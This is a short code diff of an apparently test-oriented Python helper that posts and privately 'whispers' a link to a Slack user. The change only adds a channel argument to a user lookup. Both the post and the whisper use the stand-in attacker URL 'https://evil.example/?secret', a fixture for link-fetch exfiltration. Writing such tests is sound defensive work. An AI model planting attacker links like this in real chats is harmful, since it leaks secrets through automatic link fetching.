@@ -171,7 +171,7 @@ async def have_slack_fetch_an_address(ground: Ground, how: str) -> str:
         try:
             where = await said(place, post("https://evil.example/?secret"))
             if how == "whisper":
-                person = await slack.person("dana")
+                person = await slack.person("dana", in_channel=where["channel"])
                 await place.whisper(where["channel"], where["ts"], person, "https://evil.example/?secret")
         finally:
             await place.close()
